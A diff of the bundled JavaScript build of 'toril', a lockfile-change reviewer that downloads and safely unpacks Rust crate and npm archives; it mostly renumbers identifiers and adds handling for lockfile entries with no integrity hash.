   const found9 = once(judged.flatMap((each) => each.findings)).sort(comparePlaces);
   const { findings, turnedOff } = applyPolicy(found9, policy);
@@ -37006,7 +40201,7 @@ async function reviewTrees({
     turnedOff,
     narrowings: once(judged.flatMap((each) => each.narrowings)).sort(comparePlaces),
     gaps,
-    facts: known6.used()
+    facts: known7.used()
   };
 }
 function locationsIn(pairs) {
@@ -37057,21 +40252,21 @@ function saysPermissions(path) {
 function pluginFact(texts) {
   const script = texts.get("build.rs");
   const commands2 = script === void 0 ? [] : pluginCommands2(script);
-  const files = [...texts].flatMap(([path, text2]) => path === "build.rs" ? [] : [{ path, text: text2 }]);
+  const files = [...texts].flatMap(([path, text3]) => path === "build.rs" ? [] : [{ path, text: text3 }]);
   const isPlugin = files.length > 0 || script !== void 0 && commands2 !== void 0;
   return isPlugin ? { files, commands: commands2 ?? null } : void 0;
 }
-function pluginCommands2(text2) {
-  const source = rustSource({ path: "build.rs", id: "", text: text2 });
+function pluginCommands2(text3) {
+  const source = rustSource({ path: "build.rs", id: "", text: text3 });
   const open = builderIn(source);
   if (open === void 0) return void 0;
   const [list] = argumentsAt(source, open).map((part) => expressionIn(source, part));
-  const named9 = list?.kind === "name" ? constantIn(source, list.path.at(-1) ?? "") : list;
-  return textsOf(named9)?.map(({ value }) => value) ?? null;
+  const named10 = list?.kind === "name" ? constantIn(source, list.path.at(-1) ?? "") : list;
+  return textsOf(named10)?.map(({ value }) => value) ?? null;
 }
 function builderIn({ tokens }) {
-  for (const [index, { kind, text: text2 }] of tokens.entries()) {
-    const path = kind === "word" && text2 === "Builder" ? pathAt(tokens, index, tokens.length) : null;
+  for (const [index, { kind, text: text3 }] of tokens.entries()) {
+    const path = kind === "word" && text3 === "Builder" ? pathAt(tokens, index, tokens.length) : null;
     if (path?.names.join("::") === "Builder::new" && isOpen(tokens[path.next], "(")) return path.next;
   }
   return void 0;
@@ -37153,7 +40348,7 @@ async function fetchUpTo(items, { bytes, parallel, signal }, fetchOne) {
 }
 
 // src/adapters/git-crates/git-crates.ts
-var LIMITS2 = {
+var LIMITS3 = {
   crates: 1e3,
   bytes: 256 * 1024 * 1024,
   /** Milliseconds for all of them. */
@@ -37165,13 +40360,13 @@ var LIMITS2 = {
 function gitCrates(repositories) {
   return {
     async fetch(needs) {
-      const asked2 = /* @__PURE__ */ new Map();
-      for (const need of needs) if (need.kind === "git crate") asked2.set(needKey(need), need);
-      const signal = AbortSignal.timeout(LIMITS2.runTime);
+      const asked3 = /* @__PURE__ */ new Map();
+      for (const need of needs) if (need.kind === "git crate") asked3.set(needKey(need), need);
+      const signal = AbortSignal.timeout(LIMITS3.runTime);
       const trees = openedOnce(repositories);
       const answers = await fetchInStages(
-        [...asked2.values()],
-        { count: LIMITS2.crates, bytes: LIMITS2.bytes, parallel: LIMITS2.parallel, signal },
+        [...asked3.values()],
+        { count: LIMITS3.crates, bytes: LIMITS3.bytes, parallel: LIMITS3.parallel, signal },
         (need) => factOf(need, trees)
       );
       return collected(answers);
@@ -37199,13 +40394,13 @@ async function factIn(need, tree) {
   if (tree === void 0) return { value: NO_REPOSITORIES, bytes: 0 };
   const { entries } = await tree.list();
   const manifests = entries.filter(({ path }) => /(?:^|\/)Cargo\.toml$/.test(path));
-  if (manifests.length > LIMITS2.manifests)
+  if (manifests.length > LIMITS3.manifests)
     return { value: { unknown: "its repository holds more crates than are looked through" }, bytes: 0 };
   const texts = await textsOf4(tree, manifests);
-  const own = manifests.find((entry) => nameIn4(entry, texts.get(entry.path)) === need.name);
-  const text2 = own && texts.get(own.path);
-  const bytes = sizeOf3(manifests);
-  if (own === void 0 || text2 === void 0)
+  const own = manifests.find((entry) => nameIn7(entry, texts.get(entry.path)) === need.name);
+  const text3 = own && texts.get(own.path);
+  const bytes = sizeOf4(manifests);
+  if (own === void 0 || text3 === void 0)
     return { value: { unknown: "no crate of its name is in the repository at that commit" }, bytes };
   const folder = own.path.slice(0, -"Cargo.toml".length);
   const files = entries.filter(({ path }) => path.startsWith(folder));
@@ -37213,11 +40408,11 @@ async function factIn(need, tree) {
   const saying2 = need.name.startsWith("tauri-plugin-") ? files.filter(({ path }) => saysPermissions(inside(path))) : [];
   const said2 = await textsOf4(tree, saying2);
   const fact = crateFact(
-    { path: own.path, id: own.id, text: text2 },
+    { path: own.path, id: own.id, text: text3 },
     files.map(({ path }) => inside(path)),
     new Map([...said2].map(([path, each]) => [inside(path), each]))
   );
-  return { value: fact, bytes: bytes + sizeOf3(saying2) };
+  return { value: fact, bytes: bytes + sizeOf4(saying2) };
 }
 async function textsOf4(tree, entries) {
   const blobs = await tree.read(entries);
@@ -37228,12 +40423,12 @@ async function textsOf4(tree, entries) {
     })
   );
 }
-function nameIn4({ path, id }, text2) {
-  if (text2 === void 0) return void 0;
-  const parsed7 = parseFile({ path, id, text: text2 });
+function nameIn7({ path, id }, text3) {
+  if (text3 === void 0) return void 0;
+  const parsed7 = parseFile({ path, id, text: text3 });
   return parsed7.ok ? asString(pick(parsed7.value, "package", "name")) : void 0;
 }
-function sizeOf3(entries) {
+function sizeOf4(entries) {
   return entries.reduce((sum, { size }) => sum + size, 0);
 }
 var WHY_LEFT_OUT2 = {
@@ -37283,14 +40478,14 @@ function policyNotice(before2, after2) {
     };
   }
   if (!before2.ok) return { weakened: false, sentences: [judged] };
-  if (isSame6(before2.policy, after2.policy)) return null;
+  if (isSame7(before2.policy, after2.policy)) return null;
   const weaker = weakenings(before2.policy, after2.policy);
   return {
     weakened: weaker.length > 0,
     sentences: weaker.length === 0 ? [judged] : [`${judged} The new one is weaker:`, ...weaker]
   };
 }
-function isSame6(a3, b5) {
+function isSame7(a3, b5) {
   return a3.failOn === b5.failOn && a3.incomplete === b5.incomplete && rulesOf(a3) === rulesOf(b5);
 }
 function rulesOf({ rules: rules2 }) {
@@ -37322,7 +40517,7 @@ function levelOf(level) {
 // src/hosts/github/policy.ts
 var NO_POLICY = { ok: true, policy: DEFAULT_POLICY };
 function policyOf(file2, failOn) {
-  const reading = file2 === null ? NO_POLICY : read6(file2.id, file2.bytes);
+  const reading = file2 === null ? NO_POLICY : read8(file2.id, file2.bytes);
   if (!reading.ok || failOn === void 0) return reading;
   return { ok: true, policy: tightenedTo(reading.policy, failOn) };
 }
@@ -37333,10 +40528,10 @@ async function policyNotices(current, base, head) {
   );
   if (there?.id === here?.id) return [];
   const bytes = here === void 0 ? void 0 : (await head.read([here])).get(here.id);
-  const edited = here === void 0 || bytes === void 0 ? NO_POLICY : read6(here.id, bytes);
+  const edited = here === void 0 || bytes === void 0 ? NO_POLICY : read8(here.id, bytes);
   return policyNotice(policyOf(current), edited)?.sentences ?? [];
 }
-function read6(id, bytes) {
+function read8(id, bytes) {
   try {
     return readPolicy({
       path: POLICY_PATH,
@@ -37373,18 +40568,18 @@ function jsonCache(directory, format) {
     async put(checksum, value) {
       const path = fileFor(folder, checksum);
       if (path === void 0) return;
-      const text2 = `${JSON.stringify({ version: format.version, checksum, value })}
+      const text3 = `${JSON.stringify({ version: format.version, checksum, value })}
 `;
-      await replace(folder, path, text2).catch(() => {
+      await replace(folder, path, text3).catch(() => {
       });
     }
   };
 }
-async function cachedAnswers(items, cache, keyOf8) {
-  const known6 = await concurrently(items, 64, (item) => cache.get(keyOf8(item)));
+async function cachedAnswers(items, cache, keyOf9) {
+  const known7 = await concurrently(items, 64, (item) => cache.get(keyOf9(item)));
   return new Map(
     items.flatMap((item, at2) => {
-      const value = known6[at2];
+      const value = known7[at2];
       return value === void 0 ? [] : [[item, value]];
     })
   );
@@ -37398,11 +40593,11 @@ function valueIn2(entry, checksum, format) {
   if (version !== format.version || about !== checksum) return void 0;
   return format.isValue(value) ? value : void 0;
 }
-async function replace(folder, path, text2) {
+async function replace(folder, path, text3) {
   await mkdir(folder, { recursive: true });
   const draft = `${path}.${randomUUID()}.tmp`;
   try {
-    await writeFile(draft, text2, { flag: "wx" });
+    await writeFile(draft, text3, { flag: "wx" });
     await rename(draft, path);
   } finally {
     await rm(draft, { force: true });
@@ -37418,16 +40613,16 @@ var crateFactFormat = {
 function isCrateFact(value) {
   if (typeof value !== "object" || value === null) return false;
   const { buildScripts: buildScripts2, procMacro, links, plugin } = value;
-  const scripts = isTexts2(buildScripts2) && (plugin === void 0 || isPluginInterface(plugin));
+  const scripts = isTexts3(buildScripts2) && (plugin === void 0 || isPluginInterface(plugin));
   return scripts && typeof procMacro === "boolean" && (links === null || typeof links === "string");
 }
 function isPluginInterface(value) {
   if (typeof value !== "object" || value === null) return false;
   const { files, commands: commands2 } = value;
-  const isFile2 = (file2) => typeof file2 === "object" && file2 !== null && isTexts2([Reflect.get(file2, "path"), Reflect.get(file2, "text")]);
-  return Array.isArray(files) && files.every(isFile2) && (commands2 === null || isTexts2(commands2));
+  const isFile2 = (file2) => typeof file2 === "object" && file2 !== null && isTexts3([Reflect.get(file2, "path"), Reflect.get(file2, "text")]);
+  return Array.isArray(files) && files.every(isFile2) && (commands2 === null || isTexts3(commands2));
 }
-function isTexts2(value) {
+function isTexts3(value) {
   return Array.isArray(value) && value.every((item) => typeof item === "string");
 }
 
@@ -37469,7 +40664,7 @@ var DownloadError = class extends Error {
     this.isMissing = options.isMissing ?? false;
   }
 };
-var HEADERS2 = { "user-agent": "toril (reviews what a change of a lockfile brings)" };
+var HEADERS3 = { "user-agent": "toril (reviews what a change of a lockfile brings)" };
 var MOST_REDIRECTS = 3;
 var TRIES = 2;
 async function download(url, limits) {
@@ -37509,7 +40704,7 @@ async function follow(start, signal) {
     if (!URL.canParse(url) || new URL(url).protocol !== "https:") {
       throw new DownloadError("the registry led to an address that isn't https");
     }
-    const response = await fetch(url, { redirect: "manual", signal, credentials: "omit", headers: HEADERS2 });
+    const response = await fetch(url, { redirect: "manual", signal, credentials: "omit", headers: HEADERS3 });
     if (response.status < 300 || response.status > 399) return checked2(response);
     await response.body?.cancel();
     const location = response.headers.get("location") ?? "";
@@ -37527,16 +40722,16 @@ async function checked2(response) {
   throw new DownloadError(`the registry answered with status ${response.status}`, { again });
 }
 async function bodyOf(response, limit) {
-  const tooLarge2 = () => new DownloadError("it is larger than any package may be");
+  const tooLarge3 = () => new DownloadError("it is larger than any package may be");
   if (Number(response.headers.get("content-length") ?? 0) > limit) {
     await response.body?.cancel();
-    throw tooLarge2();
+    throw tooLarge3();
   }
   const chunks = [];
   let size = 0;
   for await (const chunk of response.body ?? []) {
     size += chunk.byteLength;
-    if (size > limit) throw tooLarge2();
+    if (size > limit) throw tooLarge3();
     chunks.push(chunk);
   }
   return Buffer.concat(chunks);
@@ -37556,10 +40751,10 @@ var ByteReader = class {
   /** The next `count` bytes; fewer only at the end. They are held in memory, so the caller has to bound `count`. */
   async upTo(count) {
     const parts = [];
-    for (let missing = count; missing > 0 && await this.#fill(); ) {
-      const part = this.#held.subarray(0, missing);
+    for (let missing2 = count; missing2 > 0 && await this.#fill(); ) {
+      const part = this.#held.subarray(0, missing2);
       this.#held = this.#held.subarray(part.length);
-      missing -= part.length;
+      missing2 -= part.length;
       parts.push(part);
     }
     return Buffer.concat(parts);
@@ -37570,11 +40765,11 @@ var ByteReader = class {
     return bytes;
   }
   async skip(count) {
-    for (let missing = count; missing > 0; ) {
+    for (let missing2 = count; missing2 > 0; ) {
       if (!await this.#fill()) throw new Odd(CUT);
-      const passed2 = Math.min(missing, this.#held.length);
+      const passed2 = Math.min(missing2, this.#held.length);
       this.#held = this.#held.subarray(passed2);
-      missing -= passed2;
+      missing2 -= passed2;
     }
   }
   /** Reads the rest, and says whether it is only zeros. */
@@ -37606,19 +40801,19 @@ function tarHeader(block) {
     throw new Odd("holds a header of an unknown format");
   if (octalAt(block, 148, 8, /^ *[0-7]{1,7}[\0 ]/) !== checksumOf(block))
     throw new Odd("holds a damaged header");
-  const prefix = format === "ustar\x0000" ? textAt(block, PREFIX2, 155) : "";
-  const name = textAt(block, 0, 100);
+  const prefix = format === "ustar\x0000" ? textAt2(block, PREFIX2, 155) : "";
+  const name = textAt2(block, 0, 100);
   return {
     name: prefix === "" ? name : `${prefix}/${name}`,
-    linkname: textAt(block, 157, 100),
+    linkname: textAt2(block, 157, 100),
     type: block.toString("latin1", 156, 157),
     size: octalAt(block, 124, 12, /^ *[0-7]*[\0 ]*$/)
   };
 }
 function octalAt(block, at2, length, form) {
-  const text2 = block.toString("latin1", at2, at2 + length);
-  if (!form.test(text2)) throw new Odd("holds a number that isn't one");
-  return Number.parseInt(/[0-7]+/.exec(text2)?.[0] ?? "0", 8);
+  const text3 = block.toString("latin1", at2, at2 + length);
+  if (!form.test(text3)) throw new Odd("holds a number that isn't one");
+  return Number.parseInt(/[0-7]+/.exec(text3)?.[0] ?? "0", 8);
 }
 function checksumOf(block) {
   let sum = 8 * 32;
@@ -37626,7 +40821,7 @@ function checksumOf(block) {
   for (const byte of block.subarray(148, 156)) sum -= byte;
   return sum;
 }
-function textAt(block, at2, length) {
+function textAt2(block, at2, length) {
   const field2 = block.subarray(at2, at2 + length);
   const end = field2.indexOf(0);
   return plainText2(field2.subarray(0, end < 0 ? length : end));
@@ -37657,7 +40852,7 @@ function paxRecords(bytes) {
 var AMBIGUOUS = "holds a header that tools read in different ways";
 
 // src/adapters/archives/tar.ts
-var [MOST_EXTENDED, MOST_TEXT] = [64 * 1024, 1024 * 1024];
+var [MOST_EXTENDED, MOST_TEXT2] = [64 * 1024, 1024 * 1024];
 var LONGEST_NAME = 4096;
 async function* tarEntries(chunks) {
   const bytes = new ByteReader(chunks);
@@ -37679,7 +40874,7 @@ async function* tarEntries(chunks) {
       continue;
     }
     const content = { left: header.size };
-    yield entryOf2(header, extended, async () => {
+    yield entryOf4(header, extended, async () => {
       content.left = 0;
       return bytes.exactly(header.size);
     });
@@ -37694,10 +40889,10 @@ function extendedBy(before2, type, bytes) {
     return before2;
   }
   if (type !== "x") {
-    const text2 = plainText2(bytes).replace(/\0+$/, "");
+    const text3 = plainText2(bytes).replace(/\0+$/, "");
     const field2 = type === "L" ? "name" : "linkname";
     if (before2[field2] !== void 0 || before2.isPax) throw new Odd(AMBIGUOUS);
-    return { ...before2, [field2]: text2 };
+    return { ...before2, [field2]: text3 };
   }
   if (before2.name !== void 0 || before2.linkname !== void 0 || before2.isPax) throw new Odd(AMBIGUOUS);
   const records = paxRecords(bytes);
@@ -37712,10 +40907,10 @@ function extendedBy(before2, type, bytes) {
 function noneOf(records, ...keys) {
   if (keys.some((key) => records.has(key))) throw new Odd(AMBIGUOUS);
 }
-function entryOf2(header, extended, content) {
+function entryOf4(header, extended, content) {
   const name = extended.name ?? header.name;
   const linkname = extended.linkname ?? header.linkname;
-  const kind = kindOf5(header, name);
+  const kind = kindOf7(header, name);
   if (name === "" || name.length > LONGEST_NAME || /[\\\0]/.test(name))
     throw new Odd("holds a file with an odd name");
   if (extended.size !== void 0 && extended.size !== `${header.size}`)
@@ -37727,12 +40922,12 @@ function entryOf2(header, extended, content) {
     kind,
     size: header.size,
     async text() {
-      if (header.size > MOST_TEXT) throw new Odd("has a file of more than a megabyte where text is read");
+      if (header.size > MOST_TEXT2) throw new Odd("has a file of more than a megabyte where text is read");
       return (await content()).toString("utf8");
     }
   };
 }
-function kindOf5({ type }, name) {
+function kindOf7({ type }, name) {
   switch (type) {
     case "0":
     case "\0":
@@ -37756,13 +40951,13 @@ var { pipeline } = process.getBuiltinModule("node:stream/promises");
 var createGunzip = (...given2) => process.getBuiltinModule("node:zlib").createGunzip(...given2);
 var MEBIBYTE = 1024 * 1024;
 var UNPACKED_LIMITS = { least: 32 * MEBIBYTE, most: 512 * MEBIBYTE, ratio: 100 };
-async function unpacked2(bytes, read7) {
+async function unpacked2(bytes, read9) {
   try {
     return await pipeline(
       Readable.from([bytes]),
       createGunzip(),
       counted(mostUnpacked(bytes)),
-      async (chunks) => await read7(tarEntries(chunks))
+      async (chunks) => await read9(tarEntries(chunks))
     );
   } catch (error) {
     return { refused: error instanceof Odd ? error.message : "isn't a whole tar.gz file" };
@@ -37789,16 +40984,16 @@ var ARCHIVE_LIMITS = {
   /** All wanted texts together. The largest plugin has 400 kB of permission files. */
   textBytes: 4 * 1024 * 1024
 };
-var MANIFEST3 = "Cargo.toml";
+var MANIFEST4 = "Cargo.toml";
 function readArchive(bytes, root, wants = () => false) {
   return unpacked2(bytes, async (entries) => {
-    const names2 = /* @__PURE__ */ new Set();
+    const names3 = /* @__PURE__ */ new Set();
     const texts = /* @__PURE__ */ new Map();
     let taken3 = 0;
     let manifest2;
     for await (const entry of entries) {
-      const path = pathOf5(entry, root, names2);
-      if (path === MANIFEST3) manifest2 = await entry.text();
+      const path = pathOf5(entry, root, names3);
+      if (path === MANIFEST4) manifest2 = await entry.text();
       else if (wants(path)) {
         taken3 += entry.size;
         if (taken3 > ARCHIVE_LIMITS.textBytes) throw new Odd("holds more permission files than any plugin");
@@ -37806,11 +41001,11 @@ function readArchive(bytes, root, wants = () => false) {
       }
     }
     if (manifest2 === void 0) throw new Odd("has no Cargo.toml");
-    return { files: [...names2].filter((name) => !name.endsWith("/")), manifest: manifest2, texts };
+    return { files: [...names3].filter((name) => !name.endsWith("/")), manifest: manifest2, texts };
   });
 }
-function pathOf5({ name, kind }, root, names2) {
-  if (names2.size >= ARCHIVE_LIMITS.entries) throw new Odd("holds more files than any crate");
+function pathOf5({ name, kind }, root, names3) {
+  if (names3.size >= ARCHIVE_LIMITS.entries) throw new Odd("holds more files than any crate");
   if (kind === "link") throw new Odd("holds a link, and not only files");
   const path = name.startsWith(`${root}/`) ? name.slice(root.length + 1) : void 0;
   if (path === void 0) {
@@ -37821,20 +41016,20 @@ function pathOf5({ name, kind }, root, names2) {
   if (path !== "" && parts.some((part) => part === "" || part === "." || part === "..")) {
     throw new Odd("holds a file outside of its own folder");
   }
-  if (kind === "folder") return note2(`${path.replace(/\/$/, "")}/`, names2);
-  if (names2.has(path)) throw new Odd("holds one file twice");
-  if (path !== MANIFEST3 && path.toLowerCase() === MANIFEST3.toLowerCase())
+  if (kind === "folder") return note2(`${path.replace(/\/$/, "")}/`, names3);
+  if (names3.has(path)) throw new Odd("holds one file twice");
+  if (path !== MANIFEST4 && path.toLowerCase() === MANIFEST4.toLowerCase())
     throw new Odd("holds two Cargo.toml");
-  return note2(path, names2);
+  return note2(path, names3);
 }
-function note2(path, names2) {
-  names2.add(path);
+function note2(path, names3) {
+  names3.add(path);
   return path;
 }
 
 // src/adapters/archives/in-path.ts
-function inPath(text2) {
-  const safe = text2.split("/").map((part) => encodeURIComponent(part).replace(/^%40/, "@"));
+function inPath(text3) {
+  const safe = text3.split("/").map((part) => encodeURIComponent(part).replace(/^%40/, "@"));
   return safe.map((part) => /^\.+$/.test(part) ? "_" : part).join("/");
 }
 
@@ -37846,9 +41041,9 @@ async function downloadTemplate(index, limits) {
   if (template === void 0) throw new DownloadError("the registry's index doesn't say where archives are");
   return template;
 }
-function templateIn(text2) {
+function templateIn(text3) {
   try {
-    const config = JSON.parse(text2);
+    const config = JSON.parse(text3);
     const dl = typeof config === "object" && config !== null && "dl" in config ? config.dl : void 0;
     return typeof dl === "string" && dl.startsWith("https://") ? dl : void 0;
   } catch {
@@ -37883,7 +41078,7 @@ async function listedVersions(index, name, limits) {
   const url = new URL(indexPath(name), index).href;
   const bytes = await downloadFound(url, { ...limits, bytes: MOST_INDEX_BYTES });
   const lines2 = bytes === void 0 ? [] : Buffer.from(bytes).toString("utf8").split("\n");
-  const yanked = new Map(lines2.flatMap((line) => versionIn2(line) ?? []));
+  const yanked = new Map(lines2.flatMap((line) => versionIn4(line) ?? []));
   return {
     listingOf(version) {
       const isYanked = yanked.get(version);
@@ -37892,7 +41087,7 @@ async function listedVersions(index, name, limits) {
     bytes: bytes?.byteLength ?? 0
   };
 }
-function versionIn2(line) {
+function versionIn4(line) {
   if (line.trim() === "") return void 0;
   const entry = parsed6(line);
   const isVersion2 = typeof entry === "object" && entry !== null && "vers" in entry;
@@ -37922,9 +41117,9 @@ var CrateRegistry = class {
   }
   /** What the index says of a release, and how much it sent for the crate. */
   async listing({ name, version }) {
-    const asked2 = this.#versions.get(name) ?? this.#ask(name);
-    this.#versions.set(name, asked2);
-    const versions = await asked2;
+    const asked3 = this.#versions.get(name) ?? this.#ask(name);
+    this.#versions.set(name, asked3);
+    const versions = await asked3;
     if (versions === void 0) return { listed: {}, bytes: 0 };
     return { listed: { listing: versions.listingOf(version) }, bytes: versions.bytes };
   }
@@ -37975,14 +41170,14 @@ function cratesAdapter({
   return {
     async fetch(needs) {
       const crates = distinctNeeds(needs.filter((need) => need.kind === "crate"));
-      const asked2 = crates.filter(({ registry: registry2 }) => registry2 === null);
-      const cached = await cachedAnswers(asked2, cache, keyOf7);
+      const asked3 = crates.filter(({ registry: registry2 }) => registry2 === null);
+      const cached = await cachedAnswers(asked3, cache, keyOf8);
       const signal = AbortSignal.timeout(limits.runTime);
       const bounds = { bytes: limits.archiveBytes, time: limits.time, signal };
       const registry = new CrateRegistry(index, bounds);
       const stages = { count: limits.archives, bytes: limits.bytes, parallel: limits.parallel, signal };
       const fetched = await fetchInStages(
-        asked2.filter((need) => !cached.has(need)),
+        asked3.filter((need) => !cached.has(need)),
         stages,
         async (need) => {
           const { listed, bytes } = await registry.listing(need);
@@ -38008,7 +41203,7 @@ function cachedCrates(cache) {
   return {
     async fetch(needs) {
       const crates = distinctNeeds(needs.filter((need) => need.kind === "crate"));
-      const cached = await cachedAnswers(crates, cache, keyOf7);
+      const cached = await cachedAnswers(crates, cache, keyOf8);
       return collected2(crates, (need) => ({
         fact: cached.get(need) ?? OFFLINE,
         source: "cache"
@@ -38024,15 +41219,15 @@ function answerTo({ registry }, fetched, cached, listed) {
   return { fact: { unknown: unknown3 }, source: "registry" };
 }
 var FOREIGN = "it comes from another registry than crates.io, and Toril asks no address that a lockfile names";
-var keyOf7 = ({ checksum }) => checksum;
-function collected2(crates, answerFor, asked2 = null) {
+var keyOf8 = ({ checksum }) => checksum;
+function collected2(crates, answerFor, asked3 = null) {
   const used = [];
   const facts = /* @__PURE__ */ new Map();
   for (const need of crates) {
     const { fact, source } = answerFor(need);
     facts.set(needKey(need), fact);
     if (isUnknown(fact)) continue;
-    used.push(factUsed(need, source, fact.listing === void 0 ? null : asked2));
+    used.push(factUsed(need, source, fact.listing === void 0 ? null : asked3));
   }
   return factsFrom(facts, used, { unknown: "nobody asked for it" });
 }
@@ -38054,8 +41249,9 @@ function fits3(bytes, { algorithm, digest }) {
   const own = createHash2(algorithm).update(bytes).digest();
   return own.equals(Buffer.from(digest, "base64"));
 }
-function cacheKeyOf({ integrity }) {
-  return createHash2("sha256").update(integrity).digest("hex");
+function cacheKeyOf({ integrity, name, version }) {
+  const pinned2 = integrity === "" ? JSON.stringify([name, version]) : integrity;
+  return createHash2("sha256").update(pinned2).digest("hex");
 }
 
 // src/adapters/npm/archive.ts
@@ -38087,12 +41283,12 @@ function isUnpacked({ name, kind }) {
 
 // src/adapters/npm/npm-registry.ts
 async function lookAt(registry, need, limits) {
-  const hash = decidingHash(need.integrity);
+  const hash = need.integrity === "" ? null : decidingHash(need.integrity);
   if (hash === void 0) return { fact: { unknown: TWO_HASHES }, bytes: 0 };
   try {
     const archive = await download(archiveUrl2(registry, need), limits);
     const bytes = archive.byteLength;
-    if (!fits3(archive, hash)) return { fact: { unknown: OTHER_HASH2 }, bytes };
+    if (hash !== null && !fits3(archive, hash)) return { fact: { unknown: OTHER_HASH }, bytes };
     const fact = await readNpmArchive(archive);
     return { fact: "refused" in fact ? { unknown: `its archive ${fact.refused}` } : fact, bytes };
   } catch (error) {
@@ -38101,7 +41297,7 @@ async function lookAt(registry, need, limits) {
   }
 }
 var TWO_HASHES = "the lockfile names two archives that npm takes as well as one another";
-var OTHER_HASH2 = "the registry's archive has another hash than the lockfile names";
+var OTHER_HASH = "the registry's archive has another hash than the lockfile names";
 function archiveUrl2(registry, { name, version }) {
   const file2 = `${name.slice(name.indexOf("/") + 1)}-${version.replace(/\+.*$/s, "")}.tgz`;
   return `${registry}${inPath(name)}/-/${inPath(file2)}`;
@@ -38170,10 +41366,10 @@ var npmFactFormat = {
   isValue(value) {
     if (typeof value !== "object" || value === null) return false;
     const { packages, running } = value;
-    return isTexts3(packages) && isTexts3(running);
+    return isTexts4(packages) && isTexts4(running);
   }
 };
-function isTexts3(value) {
+function isTexts4(value) {
   return Array.isArray(value) && value.every((item) => typeof item === "string");
 }
 
